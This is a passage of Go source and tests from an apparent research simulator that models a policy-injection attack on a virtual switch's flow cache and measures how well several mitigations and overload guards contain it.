	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"policyinject/internal/acl"
	"policyinject/internal/cache"
	"policyinject/internal/chaos"
	"policyinject/internal/cms"
	"policyinject/internal/conntrack"
	"policyinject/internal/dataplane"
	"policyinject/internal/guard"
	"policyinject/internal/metrics"
	"policyinject/internal/mitigation"
	"policyinject/internal/pkt"
	"policyinject/internal/revalidator"
	"policyinject/internal/sim"
	"policyinject/internal/telemetry"
	"policyinject/internal/traffic"
)

// Result is the outcome of running one pack: one VariantRun per declared
// variant plus the evaluated expectations. Reporters render this type.
type Result struct {
	Pack string
	File string
	Mode string
	Seed uint64

	Runs   []*VariantRun
	Checks []Check
}

// Passed reports whether every expectation held.
func (r *Result) Passed() bool {
	for _, c := range r.Checks {
		if !c.Pass {
			return false
		}
	}
	return true
}

// VariantRun is one executed variant: the recorded timeline (timeline
// mode), the mitigation outcomes (matrix mode), and the summary metrics
// expectations assert against.
type VariantRun struct {
	Variant  string
	Timeline *metrics.Group // nil in matrix mode

	// Summary maps metric name -> value. Timeline metrics: peak_masks,
	// final_masks, final_entries, upcalls, denied, allowed, install_err,
	// and with a revalidator flow_limit_initial/flow_limit_final/
	// overruns/limit_evicted; wall measurement adds mean_before/
	// mean_after/degradation; conntrack adds ct_peak/ct_final. Matrix
	// metrics are "<variant>.masks", "<variant>.slowdown",
	// "<variant>.flow_limit", "<variant>.avg_scan", "<variant>.ns_before",
	// "<variant>.ns_after".
	Summary map[string]float64

	Outcomes []mitigation.Outcome // matrix mode only
}

// Check is one evaluated expectation.
type Check struct {
	Expectation
	Got     float64
	Pass    bool
	Missing bool // the metric was not produced by the run
}

func (c Check) String() string {
	verdict := "ok"
	if !c.Pass {
		verdict = "FAIL"
	}
	target := c.Metric
	if c.Variant != "" {
		target = c.Variant + ": " + c.Metric
	}
	if c.Missing {
		return fmt.Sprintf("%-4s %s %s %g (metric missing)", verdict, target, c.Op, c.Value)
	}
	return fmt.Sprintf("%-4s %s %s %g (got %g)", verdict, target, c.Op, c.Value, c.Got)
}

// RunOptions override pack knobs at run time (the cmd-line flags of
// cmd/scenario and cmd/figures). Zero values defer to the pack.
type RunOptions struct {
	Seed        uint64 // 0: pack seed
	Duration    int    // 0: pack duration
	AttackStart int    // 0: pack attack start
	Measure     string // "": pack measure mode
	CostSamples int    // 0: pack cost_samples

	// Telemetry is the live instrument registry timeline runs record
	// into (dataplane, revalidator, guards). Nil uses a private
	// registry: the run is still instrumented — timeline cache gauges
	// are sourced from registry snapshots either way — but nothing
	// outlives the run.
	Telemetry *telemetry.Registry
}

// Run executes every variant of the pack and evaluates its expectations.
func Run(p *Pack, opt RunOptions) (*Result, error) {
	seed := p.Seed
	if opt.Seed != 0 {
		seed = opt.Seed
	}
	res := &Result{Pack: p.Name, File: p.File, Mode: p.Mode, Seed: seed}
	for _, v := range p.Variants {
		var (
			run *VariantRun
			err error
		)
		if v.Mode == "matrix" {
			run, err = runMatrix(v, opt)
		} else {
			run, err = runTimeline(v, opt)
		}
		if err != nil {
			return nil, fmt.Errorf("pack %s, variant %s: %w", p.Name, v.Variant, err)
		}
		run.Variant = v.Variant
		res.Runs = append(res.Runs, run)
	}
	res.Checks = checkExpectations(p, res)
	return res, nil
}

// checkExpectations evaluates the base document's expect list: Variant
// targets a pack variant by name (or, in matrix mode, a mitigation
// variant on the first run); empty targets the first run.
func checkExpectations(p *Pack, res *Result) []Check {
	var checks []Check
	for _, e := range p.Expect {
		c := Check{Expectation: e}
		run := res.Runs[0]
		key := e.Metric
		if e.Variant != "" {
			found := false
			for _, r := range res.Runs {
				if r.Variant == e.Variant {
					run, found = r, true
					break
				}
			}
			if !found {
				// Matrix outcome addressing on the first run.
				key = e.Variant + "." + e.Metric
			}
		}
		got, ok := run.Summary[key]
		if !ok {
			c.Missing = true
			checks = append(checks, c)
			continue
		}
		c.Got = got
		c.Pass = e.check(got)
		checks = append(checks, c)
	}
	return checks
}

// datapathOptions lowers a DatapathSpec onto dataplane.New options.
func datapathOptions(d DatapathSpec) []dataplane.Option {
	var opts []dataplane.Option
	if !d.EMC {
		opts = append(opts, dataplane.WithoutEMC())
	} else if d.EMCEntries != 0 {
		opts = append(opts, dataplane.WithEMC(cache.EMCConfig{Entries: d.EMCEntries}))
	}
	mf := cache.MegaflowConfig{
		SortByHits: d.SortByHits, SortEvery: d.SortEvery,
		MaxMasks: d.MaxMasks, MaskEvictLRU: d.MaskEvictLRU,
	}
	if mf != (cache.MegaflowConfig{}) {
		opts = append(opts, dataplane.WithMegaflow(mf))
	}
	if d.SMC {
		opts = append(opts, dataplane.WithSMC(cache.SMCConfig{}))
	}
	if d.StagedPruning {
		opts = append(opts, dataplane.WithStagedPruning())
	}
	if d.Conntrack {
		opts = append(opts, dataplane.WithConntrack(conntrack.Config{
			MaxConns: d.MaxConns, IdleTimeout: d.MaxIdle,
		}))
	}
	return opts
}

// buildRevalidator lowers a RevalSpec; nil spec means the stock default.
// The overload controller (the kill-switch, when guards declare one)
// hooks into every configuration, including the default.
func buildRevalidator(r *RevalSpec, overload revalidator.OverloadController) *revalidator.Revalidator {
	if r == nil {
		return revalidator.New(revalidator.Config{Overload: overload})
	}
	if r.Disabled {
		return nil
	}
	return revalidator.New(revalidator.Config{
		Interval:     r.Interval,
		Workers:      r.Workers,
		DumpRate:     r.DumpRate,
		FlowLimit:    r.FlowLimit,
		MinFlowLimit: r.MinFlowLimit,
		GrowStep:     r.GrowStep,
		FixedLimit:   r.FixedLimit,
		MaxIdle:      r.MaxIdle,
		MaxHard:      r.MaxHard,
		PolicyCheck:  r.PolicyCheck,
		Overload:     overload,
	})
}

// defaultVictimPolicy is the whitelist the hand-wired timelines install:
// allow the client's /24 to the iperf port, deny the rest.
func defaultVictimPolicy(client netip.Addr) *PolicySpec {
	return &PolicySpec{Entries: []EntrySpec{{
		Src:     netip.PrefixFrom(client, 24).Masked(),
		Proto:   6,
		DstPort: acl.Port(5201),
	}}}
}

// applyPolicySpec installs a pack policy through the CMS.
func applyPolicySpec(cluster *cms.Cluster, tenant, pod, name string, ps *PolicySpec) error {
	pol := &cms.Policy{Name: name, Stateful: ps.Stateful, ExplicitVerdicts: true}
	for _, e := range ps.Entries {
		pol.Ingress = append(pol.Ingress, e.Entry())
		if !e.SrcPort.Any() {
			pol.AllowSrcPortFilters = true
		}
	}
	return cluster.ApplyPolicy(tenant, pod, pol)
}

// stream is one live background stream during a timeline run.
type stream struct {
	spec StreamSpec
	src  traffic.FrameSource
	pace traffic.Pacer
}

func (s *stream) active(t, duration int) bool {
	stop := s.spec.Stop
	if stop == 0 {
		stop = duration
	}
	return t >= s.spec.Start && t < stop
}

// buildStream instantiates a StreamSpec against its target pod. Pcap
// paths resolve relative to the pack file's directory.
func buildStream(spec StreamSpec, target *cms.Pod, seed uint64, packFile string) (*stream, error) {
	s := &stream{spec: spec, pace: traffic.Pacer{PPS: spec.PPS}}
	switch spec.Kind {
	case "mix":
		s.src = traffic.NewMix(traffic.MixConfig{
			Seed:     seed,
			NFlows:   spec.Flows,
			Subnet:   spec.Subnet,
			DstIP:    target.IP,
			InPort:   target.Port,
			Skew:     spec.Skew,
			FrameLen: spec.FrameLen,
		})
	case "pcap":
		path := spec.File
		if !filepath.IsAbs(path) && packFile != "" {
			path = filepath.Join(filepath.Dir(packFile), path)
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return nil, fmt.Errorf("stream %s: %w", spec.Name, err)
		}
		frames, err := pkt.ReadPcap(bytes.NewReader(data))
		if err != nil {
			return nil, fmt.Errorf("stream %s: %s: %w", spec.Name, path, err)
		}
		if len(frames) == 0 {
			return nil, fmt.Errorf("stream %s: %s holds no frames", spec.Name, path)
		}
		s.src = &pcapReplay{frames: frames, inPort: target.Port}
	default:
		return nil, fmt.Errorf("stream %s: unknown kind %q", spec.Name, spec.Kind)
	}
	return s, nil
}

// pcapReplay cycles a capture's frames through the target port.
type pcapReplay struct {
	frames [][]byte
	inPort uint32
	next   int
}

func (p *pcapReplay) NextFrame() ([]byte, uint32) {
	f := p.frames[p.next]
	p.next = (p.next + 1) % len(p.frames)
	return f, p.inPort
}

// runTimeline executes one effective timeline pack: the fig-3 cluster
// shape (one hypervisor node, victim pod + optional attacker pod +
// declared tenant pods), the declared traffic, and the attack schedule.
// Each tick runs churn -> inject -> covert burst -> background streams ->
// victim drive -> revalidator round -> gauge recording; the post-round
// recording matches the legacy RunFlowLimit loop exactly.
func runTimeline(p *Pack, opt RunOptions) (*VariantRun, error) {
	duration := p.Duration
	if opt.Duration > 0 {
		duration = opt.Duration
	}
	seed := p.Seed
	if opt.Seed != 0 {
		seed = opt.Seed
	}
	mode := p.Measure.Mode
	if opt.Measure != "" {
		mode = opt.Measure
	}
	samples := p.Measure.CostSamples
	if opt.CostSamples > 0 {
		samples = opt.CostSamples
	}
	attackStart, attackStop := 0, 0
	if p.Attack != nil {
		attackStart = p.Attack.Start
		if opt.AttackStart > 0 {
			attackStart = opt.AttackStart
		}
		attackStop = p.Attack.Stop
	}

	if statefulPolicies(p) && !p.Datapath.Conntrack {
		return nil, fmt.Errorf("stateful policy requires datapath.conntrack: true")
	}

	// Overload guards and fault injectors, built before the cluster so
	// their hooks ride into every switch the nodes assemble.
	var grd *guard.Guard
	if p.Guards != nil {
		grd = p.Guards.Build()
	}
	var inj *chaos.Injector
	if len(p.Faults) > 0 {
		var err error
		inj, err = chaos.New(chaos.Config{Seed: seed, Faults: p.Faults})
		if err != nil {
			return nil, err
		}
	}

	// Live instruments: the caller's registry, or a private one so the
	// timeline's cache gauges always flow through the same snapshot
	// path regardless of whether anyone is scraping.
	reg := opt.Telemetry
	if reg == nil {
		reg = telemetry.NewRegistry()
	}

	cluster := cms.NewCluster()
	cluster.SwitchOpts = datapathOptions(p.Datapath)
	cluster.SwitchOpts = append(cluster.SwitchOpts, dataplane.WithTelemetry(reg))
	if grd != nil && grd.Admission != nil {
		cluster.SwitchOpts = append(cluster.SwitchOpts, dataplane.WithUpcallGuard(grd.Admission))
	}
	if grd != nil && grd.Masks != nil {
		cluster.SwitchOpts = append(cluster.SwitchOpts, dataplane.WithMaskGuard(grd.Masks))
	}
	if inj != nil {
		cluster.SwitchOpts = append(cluster.SwitchOpts, dataplane.WithTierWrapper(inj.WrapTier))
	}
	var overload revalidator.OverloadController
	if grd != nil && grd.Kill != nil {
		overload = grd.Kill
	}
	rev := buildRevalidator(p.Reval, overload)
	if rev != nil {
		rev.SetTelemetry(reg)
		cluster.AttachRevalidator(rev)
	}
	if grd != nil {
		grd.SetTelemetry(reg)
	}
	if grd != nil && grd.Masks != nil {
		cluster.AttachPortLedger(grd.Masks)
	}
	if _, err := cluster.AddNode("server-1"); err != nil {
		return nil, err
	}
	victimSrv, err := cluster.DeployPod(p.Victim.Tenant, p.Victim.Pod, "server-1")
	if err != nil {
		return nil, err
	}
	var attackerPod *cms.Pod
	if p.Attack != nil {
		attackerPod, err = cluster.DeployPod("mallory", "probe", "server-1")
		if err != nil {
			return nil, err
		}
	}
	sw := victimSrv.Node.Switch

	victimPolicy := p.Victim.Policy
	if victimPolicy == nil {
		victimPolicy = defaultVictimPolicy(p.Victim.Client)
	}
	if err := applyPolicySpec(cluster, p.Victim.Tenant, p.Victim.Pod, "iperf-ingress", victimPolicy); err != nil {
		return nil, err
	}

	// Tenant pods after the victim and attacker, so the victim keeps the
	// legacy IP/port allocation and the differential packs reproduce the
	// hand-wired numbers.
	for _, t := range p.Tenants {
		pod, err := cluster.DeployPod(t.Name, t.Pod, "server-1")
		if err != nil {
			return nil, err
		}
		if t.Policy != nil {
			if err := applyPolicySpec(cluster, t.Name, t.Pod, t.Name+"-ingress", t.Policy); err != nil {
				return nil, err
			}
		}
		_ = pod
	}

	podFor := func(name string) (*cms.Pod, error) {
		if name == "victim" {
			return victimSrv, nil
		}
		if pod := cluster.Pod(name); pod != nil {
			return pod, nil
		}
		return nil, fmt.Errorf("stream target pod %q not deployed", name)
	}

	var streams []*stream
	addStream := func(spec StreamSpec) error {
		target, err := podFor(spec.To)
		if err != nil {
			return err
		}
		s, err := buildStream(spec, target, seed+uint64(len(streams)+1), p.File)
		if err != nil {
			return err
		}
		streams = append(streams, s)
		return nil
	}
	for _, spec := range p.Streams {
		if err := addStream(spec); err != nil {
			return nil, err
		}
	}
	for _, t := range p.Tenants {
		if t.Stream != nil {
			if err := addStream(*t.Stream); err != nil {
				return nil, err
			}
		}
	}

	frameLen := p.Victim.FrameLen
	if frameLen == 0 {
		frameLen = 1514
	}
	victim := traffic.NewVictim(traffic.VictimConfig{
		Src:      p.Victim.Client,
		Dst:      victimSrv.IP,
		Flows:    p.Victim.Flows,
		InPort:   victimSrv.Port,
		FrameLen: frameLen,
	})
	offeredPPS := sim.PPSFor(p.Victim.Gbps, frameLen)

	// Covert stream: the attack's wire frames replayed at the attacker
	// pod's port, paced to cycle the full sequence every Cycle ticks.
	var (
		replay *traffic.FrameReplayer
		pacer  traffic.Pacer
	)
	if p.Attack != nil {
		atk, err := p.Attack.Build()
		if err != nil {
			return nil, err
		}
		atk.DstIP = attackerPod.IP
		covertKeys, err := atk.Keys()
		if err != nil {
			return nil, err
		}
		covertFrames, err := atk.Frames()
		if err != nil {
			return nil, err
		}
		replay = traffic.NewReplayer(covertKeys).WithFrames(covertFrames, attackerPod.Port)
		pps := p.Attack.PPS
		if pps == 0 {
			pps = float64(len(covertKeys)) / p.Attack.Cycle
		}
		pacer = traffic.Pacer{PPS: pps}
	}

	// Churn: the rotated policy re-applied every Period ticks.
	var churnBase *PolicySpec
	churnTenant, churnPod := "", ""
	if p.Churn != nil {
		churnTenant, churnPod = p.Churn.Tenant, p.Churn.Pod
		if churnTenant == "" {
			churnTenant = p.Victim.Tenant
		}
		if churnPod == "" {
			churnPod = p.Victim.Pod
		}
		if churnPod == p.Victim.Pod {
			churnBase = victimPolicy
		} else {
			for _, t := range p.Tenants {
				if t.Pod == churnPod && t.Policy != nil {
					churnBase = t.Policy
				}
			}
		}
		if churnBase == nil {
			churnBase = &PolicySpec{}
		}
	}

	run := &VariantRun{Timeline: &metrics.Group{}, Summary: map[string]float64{}}
	tl := run.Timeline
	initialLimit := 0
	if rev != nil {
		initialLimit = rev.FlowLimit()
	}
	ct := sw.Conntrack()
	ctPeak := 0

	injected := false
	var covertBurst, streamBurst, victimBurst dataplane.FrameBatch
	var out []dataplane.Decision
	for t := 0; t < duration; t++ {
		now := uint64(t)

		// 1. Control plane: policy churn, then the attacker's injection.
		if c := p.Churn; c != nil && t >= c.Start && (c.Stop == 0 || t < c.Stop) && (t-c.Start)%c.Period == 0 {
			r := ((t - c.Start) / c.Period) % c.Rotate
			rotated := &PolicySpec{Stateful: churnBase.Stateful}
			rotated.Entries = append(rotated.Entries, churnBase.Entries...)
			rotated.Entries = append(rotated.Entries, EntrySpec{
				Src:     netip.PrefixFrom(netip.AddrFrom4([4]byte{10, 200, byte(r), 0}), 24),
				Proto:   6,
				DstPort: acl.Port(5201),
				Comment: fmt.Sprintf("churn rotation %d", r),
			})
			if err := applyPolicySpec(cluster, churnTenant, churnPod, "churned-ingress", rotated); err != nil {
				return nil, err
			}
		}
		if p.Attack != nil && !injected && t >= attackStart {
			atk, err := p.Attack.Build()
			if err != nil {
				return nil, err
			}
			atk.DstIP = attackerPod.IP
			theACL, err := atk.BuildACL()
			if err != nil {
				return nil, err
			}
			if err := cluster.ApplyPolicy("mallory", "probe", &cms.Policy{
				Name:                "innocuous-whitelist",
				Ingress:             theACL.Entries,
				AllowSrcPortFilters: true,
			}); err != nil {
				return nil, err
			}
			injected = true
		}

		// Active faults fire before the tick's traffic, so a filled
		// conntrack table is what the tick's commits bounce off.
		if inj != nil {
			inj.FillConntrack(now, ct)
		}

		// 2. Covert stream for this tick, as one wire burst. An attack
		// window with a stop halts the replay there (the malicious ACL
		// stays installed — only the covert pressure ends).
		if injected && (attackStop == 0 || t < attackStop) {
			covertBurst.Reset()
			for i := pacer.Take(1); i > 0; i-- {
				covertBurst.Append(replay.NextFrame())
			}
			out = sw.ProcessFrames(now, &covertBurst, out)
		}

		// 3. Background streams.
		for _, s := range streams {
			if !s.active(t, duration) {
				continue
			}
			streamBurst.Reset()
			for i := s.pace.Take(1); i > 0; i-- {
				streamBurst.Append(s.src.NextFrame())
			}
			out = sw.ProcessFrames(now, &streamBurst, out)
		}

		// 4. Victim drive: timed burst (wall) or a fixed untimed burst
		// (off — fully deterministic).
		gbps := 0.0
		if mode == "wall" {
			cost := sim.MeasureCost(sw, victim, now, samples)
			gbps = sim.Gbps(sim.Throughput(cost, offeredPPS), frameLen)
		} else {
			victimBurst.Reset()
			for i := 0; i < samples; i++ {
				victimBurst.Append(victim.NextFrame())
			}
			out = sw.ProcessFrames(now, &victimBurst, out)
		}

		// 5. Maintenance round (unless a stall fault suppresses it), then
		// record the tick's gauges.
		if rev != nil && (inj == nil || !inj.StallRevalidator(now)) {
			rev.Tick(now)
		}
		// Publish the tick's cache/guard gauges into the registry, then
		// record the timeline from a snapshot: the live scrape endpoint
		// and the pack goldens read the same numbers by construction.
		sw.PublishTelemetry()
		if grd != nil {
			grd.PublishTelemetry()
		}
		snap := reg.Snapshot()
		ts := float64(t)
		if rev != nil {
			rev.Observe(tl, ts)
		}
		if grd != nil {
			grd.Observe(tl, ts)
		}
		if inj != nil {
			inj.Observe(tl, ts)
		}
		mfEntries, _ := snap.GaugeValue("dp_mf_entries")
		mfMasks, _ := snap.GaugeValue("dp_mf_masks")
		tl.Observe(ts, "mf_entries", mfEntries)
		tl.Observe(ts, "mf_masks", mfMasks)
		if mode == "wall" {
			tl.Observe(ts, "victim_gbps", gbps)
		}
		if ct != nil {
			ctEntries, _ := snap.GaugeValue("dp_ct_entries")
			if n := int(ctEntries); n > ctPeak {
				ctPeak = n
			}
			tl.Observe(ts, "ct_entries", ctEntries)
		}
	}

	// Summary metrics.
	masks := tl.Series("mf_masks")
	entries := tl.Series("mf_entries")
	run.Summary["peak_masks"] = metrics.Summarize(masks.V).Max
	run.Summary["final_masks"] = masks.V[masks.Len()-1]
	run.Summary["final_entries"] = entries.V[entries.Len()-1]
	c := sw.Counters()
	run.Summary["upcalls"] = float64(c.Upcalls)
	run.Summary["allowed"] = float64(c.Allowed)
	run.Summary["denied"] = float64(c.Denied)
	run.Summary["install_err"] = float64(c.InstallErr)
	if mode == "wall" {
		gbps := tl.Series("victim_gbps")
		before, after := meanWindows(gbps, p.Attack != nil, attackStart, duration)
		run.Summary["mean_before"] = before
		run.Summary["mean_after"] = after
		if before > 0 {
			run.Summary["degradation"] = 1 - after/before
		}
	}
	if rev != nil {
		st := rev.Stats()
		run.Summary["flow_limit_initial"] = float64(initialLimit)
		run.Summary["flow_limit_final"] = float64(st.FlowLimit)
		run.Summary["overruns"] = float64(st.Overruns)
		run.Summary["limit_evicted"] = float64(st.TotalLimitEvicted)
	}
	if ct != nil {
		run.Summary["ct_peak"] = float64(ctPeak)
		run.Summary["ct_final"] = float64(ct.Len())
	}
	if attackStop > 0 {
		// The mask population the moment the covert pressure ended — the
		// baseline recovery is measured against.
		run.Summary["masks_attack_end"] = masks.At(float64(attackStop - 1))
	}
	if grd != nil {
		for k, v := range grd.Summary() {
			run.Summary[k] = v
		}
	}
	if inj != nil {
		for k, v := range inj.Summary() {
			run.Summary[k] = v
		}
	}
	return run, nil
}

// meanWindows computes the pre/post-attack throughput means with the
// legacy fig-3 windows: before = [start/2, start), after = [start+10, end).
// Without an attack both windows cover the whole run.
func meanWindows(s *metrics.Series, attacked bool, start, duration int) (before, after float64) {
	if !attacked {
		m := metrics.Summarize(s.V).Mean
		return m, m
	}
	before = metrics.Summarize(s.Window(float64(start)/2, float64(start))).Mean
	settle := start + 10
	if settle > duration {
		settle = duration - 1
	}
	after = metrics.Summarize(s.Window(float64(settle), float64(duration))).Mean
	return before, after
}

// statefulPolicies reports whether any policy in the pack is stateful.
func statefulPolicies(p *Pack) bool {
	if p.Victim.Policy != nil && p.Victim.Policy.Stateful {
		return true
	}
	for _, t := range p.Tenants {
		if t.Policy != nil && t.Policy.Stateful {
			return true
		}
	}
	return false
}

// runMatrix executes one matrix pack: the pack's attack evaluated against
// the declared mitigation variants via mitigation.Evaluate.
func runMatrix(p *Pack, opt RunOptions) (*VariantRun, error) {
	atk, err := p.Attack.Build()
	if err != nil {
		return nil, err
	}
	variants := make([]mitigation.Variant, 0, len(p.Matrix.Variants))
	for _, name := range p.Matrix.Variants {
		v, err := mitigationVariant(name)
		if err != nil {
			return nil, err
		}
		variants = append(variants, v)
	}
	samples := p.Matrix.Samples
	if opt.CostSamples > 0 {
		samples = opt.CostSamples
	}
	outcomes, err := mitigation.Evaluate(atk, variants, samples)
	if err != nil {
		return nil, err
	}
	run := &VariantRun{Summary: map[string]float64{}, Outcomes: outcomes}
	for _, o := range outcomes {
		run.Summary[o.Name+".masks"] = float64(o.Masks)
		run.Summary[o.Name+".slowdown"] = o.Slowdown
		run.Summary[o.Name+".flow_limit"] = float64(o.FlowLimit)
		run.Summary[o.Name+".avg_scan"] = o.AvgScan
		run.Summary[o.Name+".ns_before"] = float64(o.CostBefore.Nanoseconds())
		run.Summary[o.Name+".ns_after"] = float64(o.CostAfter.Nanoseconds())
	}
	return run, nil
}

// mitigationVariant resolves a matrix variant name. Fixed names map to
// the stock constructors; "mask-cap:N" and "cap-lru-sort:N" take the
// quota as a parameter.
func mitigationVariant(name string) (mitigation.Variant, error) {
	if arg, ok := strings.CutPrefix(name, "mask-cap:"); ok {
		n, err := strconv.Atoi(arg)
		if err != nil || n <= 0 {
			return mitigation.Variant{}, fmt.Errorf("variant %q: mask-cap wants a positive integer", name)
		}
		return mitigation.MaskCap(n), nil
	}
	if arg, ok := strings.CutPrefix(name, "cap-lru-sort:"); ok {
		n, err := strconv.Atoi(arg)
		if err != nil || n <= 0 {
			return mitigation.Variant{}, fmt.Errorf("variant %q: cap-lru-sort wants a positive integer", name)
		}
		return mitigation.MaskCapLRUSorted(n), nil
	}
	switch name {
	case "vanilla":
		return mitigation.Vanilla(), nil
	case "no-emc":
		return mitigation.NoEMC(), nil
	case "smc":
		return mitigation.SMC(), nil
	case "emc+smc":
		return mitigation.EMCPlusSMC(), nil
	case "sorted-tss":
		return mitigation.SortedTSS(), nil
	case "staged-pruning":
		return mitigation.StagedPruning(), nil
	case "stateful-sg":
		return mitigation.Stateful(), nil
	case "cache-less":
		return mitigation.CacheLess(), nil
	case "fixed-limit":
		return mitigation.FixedFlowLimit(), nil
	case "adaptive-limit":
		return mitigation.AdaptiveFlowLimit(), nil
	}
	return mitigation.Variant{}, fmt.Errorf("unknown mitigation variant %q", name)
}
