package scenario

import (
	"testing"

	"policyinject/scenarios"
)

// TestGuardKillSwitchVariant runs only the killswitch variant of the
// guard-killswitch pack (the full pack's unguarded baseline is the slow
// part) and pins the acceptance story: the 8192-mask attack trips the
// kill-switch, the collapsed max-idle mass-expires the cache, and once
// the attack window closes the switch recovers within a bounded number
// of revalidator rounds.
func TestGuardKillSwitchVariant(t *testing.T) {
	if testing.Short() {
		t.Skip("timeline run is slow")
	}
	p, err := LoadFS(scenarios.FS, "guard-killswitch.yaml")
	if err != nil {
		t.Fatalf("load guard-killswitch.yaml: %v", err)
	}
	var v *Pack
	for _, vp := range p.Variants {
		if vp.Variant == "killswitch" {
			v = vp
		}
	}
	if v == nil {
		t.Fatal("pack has no killswitch variant")
	}
	run, err := runTimeline(v, RunOptions{})
	if err != nil {
		t.Fatal(err)
	}
	s := run.Summary
	if s["killswitch_trips"] < 1 {
		t.Errorf("killswitch_trips = %g, want >= 1", s["killswitch_trips"])
	}
	if s["killswitch_recoveries"] < 1 {
		t.Errorf("killswitch_recoveries = %g, want >= 1", s["killswitch_recoveries"])
	}
	if s["killswitch_recovery_ticks"] > 20 {
		t.Errorf("killswitch_recovery_ticks = %g, want <= 20", s["killswitch_recovery_ticks"])
	}
	if s["upcalls_dropped"] <= 0 {
		t.Errorf("upcalls_dropped = %g, want > 0", s["upcalls_dropped"])
	}
	if s["final_entries"] > 50 {
		t.Errorf("final_entries = %g after recovery, want <= 50", s["final_entries"])
	}
	if s["flow_limit_final"] != 2000 {
		t.Errorf("flow_limit_final = %g, want 2000 (overload still grinds the adaptive limit)", s["flow_limit_final"])
	}
}
