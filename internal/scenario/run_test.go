package scenario_test

import (
	"bytes"
	"testing"

	"policyinject/internal/attack"
	"policyinject/internal/metrics"
	"policyinject/internal/mitigation"
	"policyinject/internal/scenario"
	"policyinject/internal/sim"
	"policyinject/scenarios"
)

func loadEmbedded(t *testing.T, file string) *scenario.Pack {
	t.Helper()
	p, err := scenario.LoadFS(scenarios.FS, file)
	if err != nil {
		t.Fatalf("load %s: %v", file, err)
	}
	return p
}

func findRun(t *testing.T, res *scenario.Result, variant string) *scenario.VariantRun {
	t.Helper()
	for _, r := range res.Runs {
		if r.Variant == variant {
			return r
		}
	}
	t.Fatalf("pack %s has no variant %q", res.Pack, variant)
	return nil
}

func render(t *testing.T, format string, res *scenario.Result) []byte {
	t.Helper()
	rep, err := scenario.NewReporter(format)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := rep.Report(&buf, res); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestSeededDeterminism: a measure-off pack run twice at the same seed
// renders byte-identical JSON reports.
func TestSeededDeterminism(t *testing.T) {
	p := loadEmbedded(t, "port-ladder.yaml")
	r1, err := scenario.Run(p, scenario.RunOptions{})
	if err != nil {
		t.Fatal(err)
	}
	r2, err := scenario.Run(p, scenario.RunOptions{})
	if err != nil {
		t.Fatal(err)
	}
	j1, j2 := render(t, "json", r1), render(t, "json", r2)
	if !bytes.Equal(j1, j2) {
		t.Fatalf("same pack + seed produced different JSON reports:\n%s\n----\n%s", j1, j2)
	}
}

// TestChaosPackDeterminism: the fault-injection gauntlet replayed at
// the same seed renders byte-identical JSON reports — every fault draw
// comes from the pack's seeded stream, never from wall clock or map
// iteration order.
func TestChaosPackDeterminism(t *testing.T) {
	p := loadEmbedded(t, "chaos-recovery.yaml")
	r1, err := scenario.Run(p, scenario.RunOptions{})
	if err != nil {
		t.Fatal(err)
	}
	r2, err := scenario.Run(p, scenario.RunOptions{})
	if err != nil {
		t.Fatal(err)
	}
	j1, j2 := render(t, "json", r1), render(t, "json", r2)
	if !bytes.Equal(j1, j2) {
		t.Fatalf("same pack + seed produced different JSON reports:\n%s\n----\n%s", j1, j2)
	}
}

// sameSeries asserts two recorded series are identical, tick for tick.
func sameSeries(t *testing.T, label string, got, want *metrics.Series) {
	t.Helper()
	if got == nil || want == nil {
		t.Fatalf("%s: missing series (got %v, want %v)", label, got, want)
	}
	if got.Len() != want.Len() {
		t.Fatalf("%s: %d samples, want %d", label, got.Len(), want.Len())
	}
	for i := range got.V {
		if got.T[i] != want.T[i] || got.V[i] != want.V[i] {
			t.Fatalf("%s[%d]: got (%g, %g), want (%g, %g)", label, i, got.T[i], got.V[i], want.T[i], want.V[i])
		}
	}
}

// TestFig3PackMatchesLegacy proves the fig3-quick pack reproduces the
// hand-wired sim.RunFig3 timeline exactly on the structural series (the
// wall-clock Gbps series is inherently nondeterministic and not compared).
func TestFig3PackMatchesLegacy(t *testing.T) {
	p := loadEmbedded(t, "fig3-quick.yaml")
	res, err := scenario.Run(p, scenario.RunOptions{})
	if err != nil {
		t.Fatal(err)
	}
	cfg := sim.Fig3Config{Duration: 30, AttackStart: 10, Attack: attack.TwoField(), FrameLen: 128}
	legacy, err := sim.RunFig3(cfg)
	if err != nil {
		t.Fatal(err)
	}
	vanilla := findRun(t, res, "vanilla")
	sameSeries(t, "vanilla mf_masks", vanilla.Timeline.Series("mf_masks"), legacy.Masks)
	sameSeries(t, "vanilla mf_entries", vanilla.Timeline.Series("mf_entries"), legacy.Megaflows)
	if vanilla.Summary["peak_masks"] != legacy.PeakMasks {
		t.Errorf("peak_masks %g, legacy %g", vanilla.Summary["peak_masks"], legacy.PeakMasks)
	}

	smcCfg := cfg
	smcCfg.SMC = true
	smcLegacy, err := sim.RunFig3(smcCfg)
	if err != nil {
		t.Fatal(err)
	}
	smc := findRun(t, res, "smc")
	sameSeries(t, "smc mf_masks", smc.Timeline.Series("mf_masks"), smcLegacy.Masks)
	sameSeries(t, "smc mf_entries", smc.Timeline.Series("mf_entries"), smcLegacy.Megaflows)
}

// TestFlowLimitPackMatchesLegacy proves the flowlimit-quick pack
// reproduces the hand-wired sim.RunFlowLimit timeline exactly: every
// revalidator gauge and cache series, both variants.
func TestFlowLimitPackMatchesLegacy(t *testing.T) {
	p := loadEmbedded(t, "flowlimit-quick.yaml")
	res, err := scenario.Run(p, scenario.RunOptions{})
	if err != nil {
		t.Fatal(err)
	}
	cfg := sim.FlowLimitConfig{Duration: 48, AttackStart: 8, Attack: attack.TwoField(),
		Interval: 4, DumpRate: 16, MinFlowLimit: 256, FrameLen: 128}
	structural := []string{"flow_limit", "dump_units", "flows_dumped", "evicted_idle", "evicted_limit", "mf_entries", "mf_masks"}

	for _, tc := range []struct {
		variant string
		fixed   bool
	}{{"adaptive", false}, {"fixed", true}} {
		legacyCfg := cfg
		legacyCfg.FixedLimit = tc.fixed
		legacy, err := sim.RunFlowLimit(legacyCfg)
		if err != nil {
			t.Fatal(err)
		}
		run := findRun(t, res, tc.variant)
		for _, name := range structural {
			sameSeries(t, tc.variant+" "+name, run.Timeline.Series(name), legacy.Timeline.Series(name))
		}
		if int(run.Summary["flow_limit_initial"]) != legacy.InitialLimit ||
			int(run.Summary["flow_limit_final"]) != legacy.FinalLimit ||
			uint64(run.Summary["overruns"]) != legacy.Overruns ||
			uint64(run.Summary["limit_evicted"]) != legacy.LimitEvicted {
